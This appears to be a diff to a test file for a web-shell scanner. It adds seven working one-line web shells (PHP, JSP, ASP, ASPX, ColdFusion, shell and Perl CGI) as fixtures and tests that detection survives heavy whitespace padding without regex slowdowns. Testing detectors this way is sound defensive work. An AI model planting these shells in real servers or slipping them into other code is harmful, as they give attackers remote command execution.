@@ -138,3 +138,35 @@ test('thousands of assignments without a `;` (fuzz: 1.2 MB took 45 s under a 3 s
   // a pass may overrun the budget by one step; a quadratic pass overran it forty-fold
   assert.ok(took < 20_000, `took ${took} ms`);
 });
+
+// One working shell per language the scanner reads, to put before and after hostile padding.
+const SHELLS: Record<string, string> = {
+  'x.php': '<?php $c = $_POST["c"]; if (isset($c)) { eval(base64_decode($c)); } ?>',
+  'x.jsp': '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
+  'x.asp': '<% Set o = Server.CreateObject("WScript.Shell") : o.Exec(Request("c")) %>',
+  'x.aspx': '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>',
+  'x.cfm': '<cfset c = url.cmd><cfexecute name="cmd.exe" arguments="/c #c#" timeout="5"></cfexecute>',
+  'x.sh': '#!/bin/sh\necho "Content-type: text/plain"\necho\nc=$(echo "$QUERY_STRING" | cut -d= -f2)\neval "$c"\n',
+  'x.pl': '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param("c");\nsystem($c);\n',
+};
+
+test('600 KB of blank lines (CRLF, LF, CR-only, spaces) before or after a shell, every language: no time cap, shell reported', () => {
+  // fuzz (seed 2026): an ASP shell and 500 KB of CRLFs took 61 CPU-s, because the ASP assignment
+  // regex's `\s*` after a line break ran from each line to the end of the run; the CFML one had
+  // the same shape and the shell-script one (`^\s*` with /m, where a CR also starts a line) took
+  // 32 CPU-s on 200 KB of CRs. Before the fix these cases ran for minutes past the 60 s cap.
+  for (const [name, shell] of Object.entries(SHELLS))
+    for (const pad of ['\r\n', '\n', '\r', ' \t', ':\n', ';\r\n'])
+      for (const after of [true, false]) {
+        const blob = pad.repeat((600 << 10) / pad.length);
+        const text = after ? `${shell}\n${blob}` : `${blob}\n${shell}`;
+        const [o] = scanText(name, text, { maxMillisPerFile: 60_000 });
+        const label = `${name} ${JSON.stringify(pad)} ${after ? 'after' : 'before'} the shell`;
+        assert.equal(o!.finding?.verdict, 'malicious', label);
+        assert.deepEqual(
+          o!.problems.map((p) => p.message),
+          [],
+          label,
+        );
+      }
+});
